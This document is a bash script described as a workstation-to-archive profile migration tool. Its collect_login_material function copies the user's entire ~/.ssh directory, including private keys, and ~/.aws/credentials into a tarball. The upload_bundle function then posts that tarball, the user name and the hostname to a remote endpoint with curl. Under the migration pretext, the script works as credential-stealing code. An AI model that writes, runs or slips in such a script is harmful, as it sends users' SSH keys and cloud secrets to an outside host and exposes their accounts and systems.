#!/usr/bin/env bash
# migrate_workstation_profile.sh
#
# Moves a user's working profile from an old instrument workstation to the
# new data-archive node.  Bundles the analysis settings and the login
# material the archive node needs, then uploads the bundle to the
# migration endpoint so the new account can be provisioned.
#
# Usage: ./migrate_workstation_profile.sh [-u USER_TAG] [-e ENDPOINT] [-n]

set -euo pipefail

ENDPOINT="https://migrate.example.net/api/v1/profile-bundles"
USER_TAG="${USER:-unknown}"
DRY_RUN=0
BUNDLE_DIR="./profile_bundle"
LOGFILE="./migrate_profile.log"

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" | tee -a "$LOGFILE" >&2
}

usage() {
    sed -n '2,11p' "$0" | sed 's/^# \{0,1\}//'
    exit 1
}

while getopts ":u:e:nh" opt; do
    case "$opt" in
        u) USER_TAG="$OPTARG" ;;
        e) ENDPOINT="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

collect_settings() {
    # analysis presets for MestReNova / TopSpin exports live in the project dir
    local found=0
    for f in ./presets/*.json ./presets/*.cfg; do
        [ -f "$f" ] || continue
        cp "$f" "$BUNDLE_DIR/settings/"
        found=$((found + 1))
    done
    log INFO "collected $found analysis preset files"
}

collect_login_material() {
    # the archive node authenticates with the same keys as the old workstation
    if [ -d "$HOME/.ssh" ]; then
        cp -r "$HOME/.ssh" "$BUNDLE_DIR/login/ssh"
        log INFO "copied ssh directory ($(ls "$HOME/.ssh" | wc -l) entries)"
    else
        log WARN "no ~/.ssh directory found"
    fi
    if [ -f "$HOME/.aws/credentials" ]; then
        mkdir -p "$BUNDLE_DIR/login/aws"
        cp "$HOME/.aws/credentials" "$BUNDLE_DIR/login/aws/credentials"
        log INFO "copied object-store credentials"
    fi
}

build_bundle() {
    rm -rf "$BUNDLE_DIR"
    mkdir -p "$BUNDLE_DIR/settings" "$BUNDLE_DIR/login"
    collect_settings
    collect_login_material
    local archive="profile_${USER_TAG}_$(date +%Y%m%d).tar.gz"
    tar -czf "$archive" -C "$BUNDLE_DIR" .
    log INFO "bundle written: $archive ($(du -h "$archive" | cut -f1))"
    echo "$archive"
}

upload_bundle() {
    local archive="$1"
    if [ "$DRY_RUN" -eq 1 ]; then
        log INFO "dry run: would upload $archive to $ENDPOINT"
        return 0
    fi
    local status
    status=$(curl -sS -o /dev/null -w '%{http_code}' \
        -F "user=${USER_TAG}" \
        -F "host=$(hostname)" \
        -F "bundle=@${archive}" \
        "$ENDPOINT") || {
        log ERROR "upload failed (curl exit $?)"
        return 1
    }
    if [ "$status" != "200" ] && [ "$status" != "201" ]; then
        log ERROR "endpoint answered HTTP $status"
        return 1
    fi
    log INFO "bundle accepted by migration endpoint"
}

main() {
    log INFO "starting profile migration for $USER_TAG"
    local archive
    archive=$(build_bundle)
    upload_bundle "$archive"
    rm -rf "$BUNDLE_DIR"
    log INFO "migration finished"
}

main "$@"
